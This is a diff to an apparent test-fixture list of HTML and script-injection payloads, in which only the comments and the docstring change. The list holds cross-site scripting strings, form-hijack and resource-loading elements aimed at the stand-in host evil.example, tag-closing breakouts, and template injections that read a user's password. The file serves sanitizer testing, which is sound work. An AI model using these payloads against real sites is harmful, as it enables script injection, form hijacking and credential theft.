@@ -1,4 +1,4 @@
-"""Texts that try to become more than text."""
+"""Payloads that try to become markup, scripts or links."""
 
 PAYLOADS = [
     "<script>window.__pwned=1</script>",
@@ -37,7 +37,7 @@ PAYLOADS = [
     "<x" + " a=b" * 25 + ">",
     "\u2028<b>\u2029",
     "--></script><b>",
-    # Elements that run something by themselves
+    # Elements with event handlers
     "<img src=x onerror=alert(1)>",
     "<svg><script>window.__pwned=1</script></svg>",
     "<svg/onload=window.__pwned=1>",
@@ -60,7 +60,7 @@ PAYLOADS = [
     "<x contenteditable onblur=window.__pwned=1 tabindex=1 id=x>",
     "<custom-element onpointerenter=window.__pwned=1>",
     "<button popovertarget=x onclick=window.__pwned=1>x</button><div popover id=x>",
-    # Elements that load, lead elsewhere, or take a form along
+    # Elements that load, redirect or submit
     "<isindex action=//evil.example>",
     "<button form=token formaction=//evil.example>x</button>",
     "<input type=image src=//evil.example formaction=//evil.example>",
@@ -76,7 +76,7 @@ PAYLOADS = [
     "<style>@import '//evil.example/x.css';</style>",
     "<div style=background:url(//evil.example)>x</div>",
     "<table background=//evil.example><tr><td>x",
-    # Ways out of where the text stands
+    # Ways to close the surrounding element
     "</td></tr></table><script>window.__pwned=1</script>",
     "</time></a></summary></details><script>window.__pwned=1</script>",
     "</title><script>window.__pwned=1</script>",
@@ -97,7 +97,7 @@ PAYLOADS = [
     "<!DOCTYPE html><html><head><base href=//evil.example>",
     "<plaintext>",
     "<xmp><script>window.__pwned=1</script></xmp>",
-    # Templates, scripts' own languages, and letters that look like others
+    # Template languages and look-alike characters
     "{% include 'admin/base.html' %}{{ request.user.password }}{# x #}",
     "{{constructor.constructor('window.__pwned=1')()}}",
     '<div x-data x-init="window.__pwned=1">',
